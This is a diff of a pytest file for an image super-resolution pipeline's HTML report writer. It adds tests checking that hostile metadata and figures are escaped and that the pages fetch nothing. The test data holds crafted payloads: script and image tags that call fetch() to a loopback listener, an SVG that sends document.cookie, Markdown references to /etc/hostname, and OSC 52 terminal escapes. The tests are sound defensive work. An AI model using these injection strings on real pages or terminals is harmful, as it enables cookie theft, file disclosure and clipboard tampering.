@@ -3,6 +3,8 @@ the reason where chromium, chromedriver or selenium are missing). The pages are 
 small real data: a report with a table and a plot, a crop sheet, and `sr --reference` on a small image."""
 from __future__ import annotations
 
+import base64
+import html
 import re
 import shutil
 import tempfile
@@ -14,7 +16,7 @@ import pytest
 
 from pipeline import report
 from pipeline.analysis import sheet
-from pipeline.htmlreport import parse, write_html
+from pipeline.htmlreport import Code, Heading, Sheet, Strong, items, para, plot_figure, write_report
 from pipeline.report import plots
 
 CHROMIUM, CHROMEDRIVER = "/usr/bin/chromium", "/usr/bin/chromedriver"
@@ -74,21 +76,27 @@ def pages(tmp_path_factory):
     lr, outputs, hr = _pictures()
     png = sheet.write(out / "sheet-srcnn-x3.png", lr, outputs, hr, scale=3, side=40, bicubic=lambda a, size: cv2.resize(
         a, size[::-1], interpolation=cv2.INTER_CUBIC))
-    md = ("# Bench\n\nMachine: a CPU. `srcnn` **x3**.\n\n| model | median ms | roofline |\n|---|---|---|\n"
-          "| srcnn | 14.0 | 9.9 % |\n| srcnn-x3 | 3.5 | 41.0 % |\n\n- one\n- two\n\n![latency](latency.png)\n")
-    (out / "report.md").write_text(md)
-    return {"report": write_html(out / "report.md", sheets=[png])}
+    blocks = [Heading("Bench", 1), para("Machine: a CPU. ", Code("srcnn"), " ", Strong("x3"), "."),
+              report.table(["model", "median ms", "roofline"], [["srcnn", 14.0, "9.9 %"], ["srcnn-x3", 3.5, "41.0 %"]]),
+              items("one", "two"), plot_figure("latency", out / "latency.png"), Sheet("srcnn x3", png)]
+    md, page = write_report(out / "report.md", blocks)
+    return {"report": page, "md": md}
 
 
-def test_the_page_says_what_the_markdown_says(pages):
-    text = pages["report"].read_text()
-    assert [b.kind for b in parse((pages["report"].parent / "report.md").read_text())] == [
-        "heading", "paragraph", "table", "list", "image"]
-    assert "<svg" in text and "latency.png" not in text  # the plot inline, nothing linked
+def test_the_page_and_the_markdown_say_the_same(pages):
+    text, md = pages["report"].read_text(), pages["md"].read_text()
+    assert md.startswith("# Bench\n\nMachine: a CPU. `srcnn` **x3**.\n\n| model | median ms | roofline |\n")
+    assert report.parse_table(md, "model") == [{"model": "srcnn", "median ms": "14", "roofline": "9.9 %"},
+                                               {"model": "srcnn-x3", "median ms": "3.5", "roofline": "41.0 %"}]
+    assert "- one\n- two" in md and "![latency](latency.png)" in md
+    # the plot as a picture (its SVG drawing in a data: URI), nothing linked
+    assert 'src="data:image/svg+xml;base64,' in text and "latency.png" not in text and "<svg" not in text
     assert not re.search(r'(src|href)\s*=\s*"(https?:)?//', text) and "@import" not in text  # nothing fetched
-    # 2 crops x (bicubic vs srcnn, then bicubic and srcnn each against the ground truth)
-    assert text.count('type="range"') == 6
-    assert "<code>srcnn</code>" in text and "<strong>x3</strong>" in text
+    # 2 crops x (bicubic vs srcnn, then bicubic and srcnn each against the ground truth), under the sheet's heading
+    assert text.count('type="range"') == 6 and "<h3>srcnn x3</h3>" in text
+    assert "<code>srcnn</code>" in text and "<strong>x3</strong>" in text and "Left out" not in text
+    assert re.search(r"<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; img-src data:; "
+                     r"style-src 'sha256-[^']+'; script-src 'sha256-[^']+';", html.unescape(text))
 
 
 @needs_browser
@@ -130,7 +138,7 @@ def test_report_in_a_browser(pages, browser, tmp_path):
 
 
 @needs_browser
-def test_sr_reference_page_in_a_browser(browser, tmp_path):
+def test_sr_reference_page_in_a_browser(browser, tmp_path, monkeypatch):
     from selenium.webdriver.common.by import By
 
     from pipeline.cli import main
@@ -140,9 +148,11 @@ def test_sr_reference_page_in_a_browser(browser, tmp_path):
     (tmp_path / "hr").mkdir()
     cv2.imwrite(str(tmp_path / "lr" / "a.png"), lr)
     cv2.imwrite(str(tmp_path / "hr" / "a.png"), hr)
-    assert main(["sr", str(tmp_path / "lr"), str(tmp_path / "out"), "--model", "srcnn", "--scale", "3",
-                 "--backend", "ort", "--reference", str(tmp_path / "hr"), "--quiet"]) == 0
+    monkeypatch.chdir(tmp_path)  # paths as a user types them: relative to the working directory
+    assert main(["sr", "lr", "out", "--model", "srcnn", "--scale", "3", "--backend", "ort", "--reference", "hr",
+                 "--quiet"]) == 0
     page = tmp_path / "out" / "reference-sheet.html"
+    assert "Left out" not in page.read_text()
     browser.set_window_size(*SIZES[1])
     browser.get(page.as_uri())
     labels = [s.get_attribute("aria-label") for s in browser.find_elements(By.CSS_SELECTOR, "input[type=range]")]
@@ -168,7 +178,8 @@ def test_bench_page_from_the_bench_writer(browser, tmp_path):
         wide = browser.execute_script(
             "return document.documentElement.scrollWidth - document.documentElement.clientWidth")
         assert wide <= 0, f"horizontal scroll of {wide} px at {width}x{height}"
-    assert len(browser.find_elements(By.CSS_SELECTOR, "figure svg")) == len(doc["plots"]) > 0
+    plots = [i.get_attribute("src") for i in browser.find_elements(By.CSS_SELECTOR, "figure img")]
+    assert len(plots) == len(doc["plots"]) > 0 and all(p.startswith("data:image/svg+xml;base64,") for p in plots)
     text = browser.find_element(By.TAG_NAME, "body").text
     assert text.index("CPU:") < text.index("Results")  # the machine facts at the top
     table = next(t for t in browser.find_elements(By.CSS_SELECTOR, "table")
@@ -181,3 +192,203 @@ def test_bench_page_from_the_bench_writer(browser, tmp_path):
     assert all(re.fullmatch(r"\d+\.\d\dx \([+-]\d+ %\)", c) for c in cells), cells
     assert ratios == sorted(ratios) and ratios[0] < ratios[-1]
     assert not [e for e in browser.get_log("browser") if e["level"] == "SEVERE"]
+
+
+# -- hostile inputs (issue 39): strings from users' files are text, pictures come only from the run's own files ----
+class _Listener:
+    """A loopback HTTP listener (127.0.0.1 only) that records every request a page would make."""
+
+    def __init__(self):
+        import http.server
+        import threading
+
+        hits = self.hits = []
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def do_GET(self):  # noqa: N802 (the http.server name)
+                hits.append(self.path)
+                self.send_response(204)
+                self.end_headers()
+
+            do_POST = do_GET  # noqa: N815
+
+            def log_message(self, *args):
+                pass
+
+        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+    def close(self):
+        self.server.shutdown()
+        self.server.server_close()
+
+
+@pytest.fixture(scope="module")
+def listener():
+    server = _Listener()
+    yield server
+    server.close()
+
+
+def _evil_name(url: str) -> str:
+    """A metadata `model` string that tries every trick: a Markdown picture of a local file, raw HTML that loads
+    and scripts, terminal escapes (OSC 52 clipboard, colour, CR)."""
+    return (f"evil\n![x](/etc/hostname)\n![y](../outside/canary.txt)\n<img src=\"{url}/img\">"
+            f"<script>document.title='pwned';fetch('{url}/script')</script>"
+            "\x1b]52;c;aGk=\x07\x1b[31mred\rOK")
+
+
+def _scripted_svg(url: str) -> str:
+    return ('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="document.title=\'pwned\'">'
+            f"<script>document.title='pwned';fetch('{url}/svg?'+document.cookie)</script>"
+            '<rect width="10" height="10" fill="red"/></svg>')
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory, listener):
+    """`sr --reference`, `compare --onnx` and `bench --onnx` on a file whose metadata `model` is _evil_name, and a
+    report whose plot has a scripted SVG twin and whose figures name a file outside the folder and a link to it."""
+    import onnx
+
+    from pipeline.cli import main
+    from pipeline.export.cached import onnx_for
+
+    root = tmp_path_factory.mktemp("hostile")
+    (root / "outside").mkdir()
+    canary = root / "outside" / "canary.txt"
+    canary.write_text("CANARY-" + "7f3a9c" * 8)
+    src = onnx_for("srcnn")
+    (root / "model").mkdir()
+    for f in src.parent.glob(src.stem + "*"):
+        shutil.copy(f, root / "model" / f.name)
+    path = root / "model" / src.name
+    model = onnx.load(str(path), load_external_data=False)
+    props = {p.key: p.value for p in model.metadata_props} | {"model": _evil_name(listener.url)}
+    del model.metadata_props[:]
+    for k, v in props.items():
+        model.metadata_props.add(key=k, value=v)
+    onnx.save(model, str(path))
+    lr, _, hr = _pictures()
+    for name, img in (("lr", lr), ("hr", hr)):
+        (root / name).mkdir()
+        cv2.imwrite(str(root / name / "a.png"), img)
+    runs = {}
+    for key, argv in {"sr": ["sr", root / "lr", root / "sr", "--onnx", path, "--reference", root / "hr"],
+                      "compare": ["compare", "--onnx", path, "--output", root / "compare"],
+                      "bench": ["bench", "--onnx", path, "--quick", "--sizes", "32", "--iters", "2", "--time-budget",
+                                "0.2", "--output", root / "bench"]}.items():
+        runs[key] = _run(main, argv)
+    return {"root": root, "canary": canary, "runs": runs, "listener": listener,
+            "pages": {"sr": root / "sr" / "reference-sheet.html", "compare": root / "compare" / "report.html",
+                      "bench": root / "bench" / "report.html", "figures": _figure_page(root, canary, listener.url)}}
+
+
+def _run(main, argv) -> tuple[int, str]:
+    """A CLI run's exit code and everything it printed (stdout and stderr, as the terminal would get them)."""
+    import contextlib
+    import io
+    import sys
+
+    out = io.StringIO()
+    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(out):
+        code = main([str(a) for a in argv])
+        assert sys.stdout is out and sys.stderr is out  # the CLI's escaping streams are gone after the run
+    return code, out.getvalue()
+
+
+def _figure_page(root: Path, canary: Path, url: str) -> Path:
+    """A report whose plot has a scripted .svg twin, plus figures naming a file outside the folder (absolute and
+    by ..) and a link inside the folder that leads to it."""
+    out = root / "figures"
+    out.mkdir()
+    plt = plots.plt_()
+    fig, ax = plt.subplots(figsize=(2, 2))
+    ax.plot([1, 2], [1, 2])
+    plots.save_fig(fig, out / "plot.png")
+    plt.close(fig)
+    (out / "plot.svg").write_text(_scripted_svg(url))
+    (out / "link.png").symlink_to(canary)
+    (out / "link.svg").symlink_to(canary)
+    (out / "inlink.png").symlink_to(out / "plot.png")  # inside the folder, but a link: not followed either
+    from pipeline.htmlreport import Figure
+
+    blocks = [Heading("Figures", 1), para(_evil_name(url)), plot_figure("plot", out / "plot.png"),
+              Figure("absolute", canary), Figure("dotdot", out / ".." / "outside" / "canary.txt"),
+              Figure("etc", Path("/etc/hostname")), plot_figure("link", out / "link.png"),
+              Figure("inlink", out / "inlink.png")]
+    return write_report(out / "report.md", blocks)[1]
+
+
+def test_hostile_runs_succeed_and_write_their_pages(hostile):
+    for key, (code, printed) in hostile["runs"].items():
+        assert code == 0, (key, printed)
+        assert hostile["pages"][key].is_file(), key
+    assert "html: " in hostile["runs"]["compare"][1]  # compare --onnx writes and names its page
+
+
+def test_terminal_shows_escapes_escaped(hostile):
+    for key, (_, printed) in hostile["runs"].items():
+        assert "\x1b" not in printed and "\r" not in printed and "\x07" not in printed, key
+        assert "\\x1b]52;c;aGk=\\x07\\x1b[31mred\\rOK" in printed, key  # the name is still there, readable
+    # the sr stage's own lines keep a name on its line: its newlines are escaped too
+    assert "sr: evil\\n![x](/etc/hostname)" in hostile["runs"]["sr"][1]
+
+
+def test_no_local_file_and_no_foreign_markup_in_any_page(hostile):
+    canary = hostile["canary"].read_bytes()
+    hostname = Path("/etc/hostname").read_bytes() if Path("/etc/hostname").is_file() else b""
+    for key, page in hostile["pages"].items():
+        text = page.read_text()
+        assert canary.decode() not in text and base64.b64encode(canary).decode() not in text, key
+        if len(hostname) >= 8:  # shorter ones could occur anywhere by chance
+            assert base64.b64encode(hostname).decode() not in text, key
+        assert "<script>document.title" not in text and "<img src=\"http" not in text and "<svg" not in text, key
+        assert "&lt;script&gt;document.title=&#39;pwned&#39;" in text, key  # the name is shown, as text
+        srcs = re.findall(r'\ssrc="([^"]*)"', text)
+        assert all(s.startswith("data:image/") for s in srcs), (key, [s[:40] for s in srcs])
+    figures = hostile["pages"]["figures"].read_text()
+    assert "Left out of this page: absolute (outside the report&#39;s folder), dotdot (outside the report&#39;s " \
+           "folder), etc (outside the report&#39;s folder), link (outside the report&#39;s folder), inlink (a link)" \
+        in figures
+    assert figures.count('<img src="data:image/svg+xml;base64,') == 1  # the scripted drawing, as a picture only
+
+
+@needs_browser
+def test_hostile_pages_run_nothing_and_load_nothing_in_a_browser(hostile, browser):
+    from selenium.webdriver.common.by import By
+
+    for key, page in hostile["pages"].items():
+        browser.get(page.as_uri())
+        title = browser.title  # the page's heading: the name, scripts and all, as text
+        assert title and title != "pwned", key
+        # let anything a page might have started finish: a 300 ms timer inside the page, then look
+        browser.execute_async_script("var done = arguments[0]; setTimeout(done, 300);")
+        assert browser.title == title and browser.execute_script("return document.title") == title, key
+        assert len(browser.find_elements(By.TAG_NAME, "script")) == 1, key  # the page's own
+    assert hostile["listener"].hits == []
+
+
+def test_sliders_grouped_per_sheet_and_lookalike_pairs_folded(tmp_path):
+    """Issue 42 item 21: a heading per sheet; a backend whose crops match an output already shown to within
+    VISIBLE_LEVELS sits folded under a <details> element instead of adding sliders that all look the same."""
+    from pipeline.htmlreport.sliders import VISIBLE_LEVELS
+
+    lr, outputs, hr = _pictures()
+    close = np.clip(outputs["srcnn"].astype(int) + 1, 0, 255).astype(np.uint8)  # 1 level off ort's: looks the same
+    sheets = []
+    for name in ("a", "b"):
+        png = sheet.write(tmp_path / f"sheet-{name}.png", lr, {"ort fp32": outputs["srcnn"], "openvino fp32": close},
+                          hr, scale=3, side=40, bicubic=lambda a, size: cv2.resize(a, size[::-1],
+                                                                                   interpolation=cv2.INTER_CUBIC))
+        sheets.append(Sheet(f"model {name} x3", png))
+    _, page = write_report(tmp_path / "report.md", [Heading("Compare", 1), *sheets])
+    text = page.read_text()
+    assert text.count("<h3>") == 2 and "<h3>model a x3</h3>" in text and "<h3>model b x3</h3>" in text
+    assert VISIBLE_LEVELS >= 1
+    for part in text.split("<h3>")[1:]:
+        shown, _, folded = part.partition('<details class="alike">')
+        # per crop (2): bicubic vs ort, then bicubic and ort against the ground truth; openvino's pair folded
+        assert shown.count('type="range"') == 6 and "openvino fp32 on the left" not in shown
+        assert folded.count('type="range"') == 2 and folded.count("openvino fp32 on the left, ground truth") == 2
+        assert "2 more sliders that look the same as one above" in folded
